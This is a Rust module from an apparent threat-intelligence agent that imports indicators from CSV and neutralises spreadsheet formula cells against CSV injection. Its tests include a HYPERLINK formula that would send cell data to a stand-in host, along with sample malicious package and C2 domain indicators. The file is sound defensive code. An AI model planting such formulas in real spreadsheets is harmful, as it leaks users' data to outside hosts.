//! `member-agent publish --csv FILE`: one indicator per row of a CSV file
//! with a header. Columns are the `publish` flag names (`kind`, `purl`,
//! `sha256`, `domain`, ..., `tlp`, `title`, `severity`, `confidence`,
//! `description`); list columns (`labels`, `references`, `audience`,
//! `versions`, `affected_purls`, `related`) take `;`-separated values.
//! Every row is validated before anything is sent; a bad row is reported
//! with its line number and nothing is published unless `skip_invalid`.
//!
//! [`cell`] is the one way a value becomes a CSV cell (`export --format
//! csv` and the console's CSV copy both go through it): a value a
//! spreadsheet would read as a formula gets a leading `'`, which this
//! reader takes off again, so what `export` writes comes back unchanged.

use crate::draft::IndicatorDraft;
use crate::error::AgentError;

/// Largest CSV accepted.
pub const MAX_CSV_BYTES: usize = 64 * 1024 * 1024;

/// Splits CSV text into records of fields (RFC 4180: quotes, doubled quotes,
/// commas and newlines inside quotes). Returns (line number, fields).
pub fn parse_records(text: &str) -> Result<Vec<(usize, Vec<String>)>, String> {
    let mut records = Vec::new();
    let mut field = String::new();
    let mut fields = Vec::new();
    let mut in_quotes = false;
    let mut line = 1;
    let mut record_line = 1;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (in_quotes, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => in_quotes = false,
            (true, '\n') => {
                line += 1;
                field.push('\n');
            }
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => in_quotes = true,
            (false, '"') => return Err(format!("line {line}: a quote inside an unquoted field")),
            (false, ',') => fields.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                fields.push(std::mem::take(&mut field));
                if !(fields.len() == 1 && fields[0].is_empty()) {
                    records.push((record_line, std::mem::take(&mut fields)));
                } else {
                    fields.clear();
                }
                line += 1;
                record_line = line;
            }
            (false, c) => field.push(c),
        }
    }
    if in_quotes {
        return Err(format!("line {record_line}: unterminated quoted field"));
    }
    if !field.is_empty() || !fields.is_empty() {
        fields.push(field);
        records.push((record_line, fields));
    }
    Ok(records)
}

/// First characters that make a spreadsheet read a cell as a formula
/// (OWASP "CSV Injection": `=`, `+`, `-`, `@`, tab, carriage return).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `v` is a value [`cell`] neutralises: it starts with a formula
/// character, after any number of `'` (so that a value that already starts
/// with `'` and a formula character gets one more `'`, and [`unneutralise`]
/// gives back exactly what was written).
fn needs_neutralising(v: &str) -> bool {
    v.trim_start_matches('\'').starts_with(FORMULA_START)
}

/// One value as a CSV cell (RFC 4180), safe to open in a spreadsheet: a
/// value that starts with `=`, `+`, `-`, `@`, tab or carriage return (after
/// any leading `'`) gets a `'` in front and is quoted, so it is shown as
/// text and never run as a formula; a value with a comma, quote or line
/// break is quoted. [`unneutralise`] is the inverse for the first rule.
pub fn cell(v: &str) -> String {
    if needs_neutralising(v) {
        format!("\"'{}\"", v.replace('"', "\"\""))
    } else if v.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", v.replace('"', "\"\""))
    } else {
        v.to_owned()
    }
}

/// A cell's value as [`cell`] was given it: the `'` that `cell` put in
/// front of a formula character is taken off. A `'` anywhere else stays.
pub fn unneutralise(v: &str) -> &str {
    match v.strip_prefix('\'') {
        Some(rest) if needs_neutralising(rest) => rest,
        _ => v,
    }
}

fn list(v: &str) -> Option<Vec<String>> {
    let items: Vec<String> = v
        .split(';')
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .map(String::from)
        .collect();
    (!items.is_empty()).then_some(items)
}

/// A data row: its line number, and its draft or what is wrong with it.
pub type Row = (usize, Result<IndicatorDraft, String>);

/// Rows as drafts, or the problems with line numbers.
pub fn drafts_from_csv(text: &str) -> Result<Vec<Row>, AgentError> {
    if text.len() > MAX_CSV_BYTES {
        return Err(AgentError::Usage("CSV file is larger than 64 MiB".into()));
    }
    let records = parse_records(text.trim_start_matches('\u{feff}')).map_err(AgentError::Usage)?;
    let mut iter = records.into_iter();
    let Some((_, header)) = iter.next() else {
        return Err(AgentError::Usage(
            "CSV file is empty; it needs a header row".into(),
        ));
    };
    let header: Vec<String> = header
        .iter()
        .map(|h| h.trim().to_ascii_lowercase().replace('-', "_"))
        .collect();
    const KNOWN: [&str; 29] = [
        "kind",
        "purl",
        "versions",
        "threat",
        "imitates",
        "sha256",
        "sha512",
        "filename",
        "repo_url",
        "commit",
        "tag",
        "account",
        "domain",
        "ip",
        "url",
        "vuln_id",
        "affected_purls",
        "tlp",
        "audience",
        "title",
        "description",
        "severity",
        "confidence",
        "references",
        "labels",
        "valid_from",
        "valid_until",
        "related",
        "anonymous",
    ];
    if let Some(unknown) = header.iter().find(|h| !KNOWN.contains(&h.as_str())) {
        return Err(AgentError::Usage(format!(
            "unknown CSV column `{unknown}`; columns are the publish flag names: {}",
            KNOWN.join(", ")
        )));
    }
    let mut out = Vec::new();
    for (line, fields) in iter {
        if fields.len() != header.len() {
            out.push((
                line,
                Err(format!(
                    "has {} fields, the header has {}",
                    fields.len(),
                    header.len()
                )),
            ));
            continue;
        }
        let mut d = IndicatorDraft::default();
        let mut problem = None;
        for (name, value) in header.iter().zip(fields) {
            let v = unneutralise(&value).trim().to_owned();
            if v.is_empty() {
                continue;
            }
            let one = Some(v.clone());
            match name.as_str() {
                "kind" => d.kind = one,
                "purl" => d.purl = one,
                "versions" => d.versions = list(&v),
                "threat" => d.threat = one,
                "imitates" => d.imitates = one,
                "sha256" => d.sha256 = one,
                "sha512" => d.sha512 = one,
                "filename" => d.filename = one,
                "repo_url" => d.repo_url = one,
                "commit" => d.commit = one,
                "tag" => d.tag = one,
                "account" => d.account = one,
                "domain" => d.domain = one,
                "ip" => d.ip = one,
                "url" => d.url = one,
                "vuln_id" => d.vuln_id = one,
                "affected_purls" => d.affected_purls = list(&v),
                "tlp" => d.tlp = one,
                "audience" => d.audience = list(&v),
                "title" => d.title = one,
                "description" => d.description = one,
                "severity" => d.severity = one,
                "confidence" => match v.parse::<u8>() {
                    Ok(c) => d.confidence = Some(c),
                    Err(_) => problem = Some(format!("confidence `{v}` is not 0-100")),
                },
                "references" => d.references = list(&v),
                "labels" => d.labels = list(&v),
                "valid_from" => d.valid_from = one,
                "valid_until" => d.valid_until = one,
                "related" => d.related = list(&v),
                "anonymous" => {
                    d.anonymous = Some(matches!(
                        v.to_ascii_lowercase().as_str(),
                        "true" | "yes" | "1"
                    ))
                }
                _ => {}
            }
        }
        out.push((line, problem.map_or(Ok(d), Err)));
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_quotes_commas_and_newlines() {
        let r =
            parse_records("a,b,c\n\"x, y\",\"say \"\"hi\"\"\",\"two\nlines\"\n\n1,2,3").unwrap();
        assert_eq!(r.len(), 3);
        assert_eq!(
            r[1],
            (
                2,
                vec!["x, y".into(), "say \"hi\"".into(), "two\nlines".into()]
            )
        );
        assert_eq!(
            r[2].0, 5,
            "line numbers count the embedded newline and the blank line"
        );
        assert!(parse_records("a\n\"open").is_err());
        assert!(parse_records("a\nb\"c").is_err());
    }

    #[test]
    fn formula_cells_are_neutralised_and_read_back_unchanged() {
        for (value, written) in [
            (
                "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
                "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"",
            ),
            ("+1", "\"'+1\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\tcmd", "\"'\tcmd\""),
            ("\rcmd", "\"'\rcmd\""),
            // A value that already looks neutralised gets one more quote.
            ("'=1", "\"''=1\""),
            ("''-x", "\"'''-x\""),
            // Nothing to do: plain text, a quote before text, a formula
            // character later on.
            ("evil package", "evil package"),
            ("'quoted'", "'quoted'"),
            ("a=b", "a=b"),
            ("", ""),
            ("a, b", "\"a, b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ] {
            let c = cell(value);
            assert_eq!(c, written, "{value:?}");
            // What a reader gets back: the parsed field, unneutralised.
            let parsed = parse_records(&format!("{c}\n")).unwrap();
            let field = parsed.first().map_or("", |r| r.1[0].as_str());
            assert_eq!(unneutralise(field), value, "{value:?} via {c:?}");
        }
        // Only a quote our export wrote is taken off.
        assert_eq!(unneutralise("'hello"), "'hello");
        assert_eq!(unneutralise("'"), "'");
    }

    #[test]
    fn an_exported_formula_title_imports_as_the_title() {
        let title = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
        let text = format!(
            "kind,domain,tlp,title,description,labels\nnetwork,c2.evil.example,green,{},{},{}\n",
            cell(title),
            cell("- first point\n- second"),
            cell("-tag;x")
        );
        let rows = drafts_from_csv(&text).unwrap();
        let d = rows[0].1.as_ref().unwrap();
        assert_eq!(d.title.as_deref(), Some(title));
        assert_eq!(d.description.as_deref(), Some("- first point\n- second"));
        assert_eq!(
            d.labels.as_deref(),
            Some(&["-tag".to_string(), "x".to_string()][..])
        );
    }

    #[test]
    fn rows_become_drafts_with_line_numbers() {
        let text = "kind,purl,domain,tlp,title,labels,confidence\n\
                    package,pkg:npm/evil@1.0.0,,green,evil,credential-theft;npm,90\n\
                    network,,c2.evil.example,clear,c2,,x\n\
                    package,pkg:npm/short\n";
        let rows = drafts_from_csv(text).unwrap();
        assert_eq!(rows.len(), 3);
        let d = rows[0].1.as_ref().unwrap();
        assert_eq!(
            d.labels.as_deref(),
            Some(&["credential-theft".to_string(), "npm".to_string()][..])
        );
        assert_eq!(d.confidence, Some(90));
        assert_eq!(rows[1].0, 3);
        assert!(rows[1].1.as_ref().unwrap_err().contains("confidence"));
        assert!(rows[2].1.as_ref().unwrap_err().contains("fields"));
        assert!(drafts_from_csv("colour\nred\n").is_err());
        assert!(drafts_from_csv("").is_err());
    }
}
